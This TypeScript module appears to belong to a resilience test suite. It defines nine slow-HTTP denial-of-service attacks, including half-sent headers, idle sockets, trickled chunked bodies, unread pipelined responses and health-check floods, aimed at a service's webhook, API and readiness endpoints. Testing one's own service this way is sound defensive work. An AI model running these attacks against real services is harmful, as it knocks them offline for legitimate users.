import { type AttackCounts, openConnections, type Target } from './open-connections.ts';

/** Starts an attack, which lasts until its process ends. Resolves at full strength. */
export type Attack = (target: Target) => Promise<AttackCounts>;

const webhook = { method: 'POST', path: '/webhooks/stripe' };
const body = { 'Content-Type': 'application/json', 'Content-Length': '60000' };
const chunked = { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' };
const contract = { method: 'GET', path: '/openapi.json' };
const list = { method: 'GET', path: '/assignments?limit=100' };

/** What one address can try, with or without a token, to take the service from others. */
export const attacks = {
  'half-sent headers': (target) => openConnections(target, { sockets: 1_000, first: 'GET / HTTP/1.1\r\nHo' }),
  'idle connections': (target) => openConnections(target, { sockets: 2_000, first: '' }),
  'half-sent bodies': (target) => openConnections(target, { sockets: 1_000, first: `${head(webhook, body)}{` }),
  'half-sent bodies with a token': (target) =>
    openConnections(target, { sockets: 1_000, first: `${head(webhook, body, target.authorization)}{` }),
  'trickled bodies': (target) =>
    openConnections(target, { sockets: 1_000, first: `${head(webhook, chunked)}`, everySecond: '1\r\n \r\n' }),
  'pipelined and unread': (target) =>
    openConnections(target, { sockets: 100, first: head(contract).repeat(10), reads: 0 }),
  'unread answers with a token': (target) =>
    openConnections(target, { sockets: 300, first: head(list, {}, target.authorization).repeat(5), reads: 0 }),
  'slow readers': (target) =>
    openConnections(target, { sockets: 300, first: head(list, {}, target.authorization).repeat(5), reads: 100 }),
  'health checks': (target) =>
    openConnections(target, {
      sockets: 100,
      first: head({ method: 'GET', path: '/healthz/ready' }),
      everySecond: head({ method: 'GET', path: '/healthz/ready' }).repeat(10),
    }),
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;

function head(
  { method, path }: { method: string; path: string },
  headers: Record<string, string> = {},
  authorization?: string,
): string {
  const all = { Host: 'x', ...headers, ...(authorization && { Authorization: authorization }) };
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`;
}
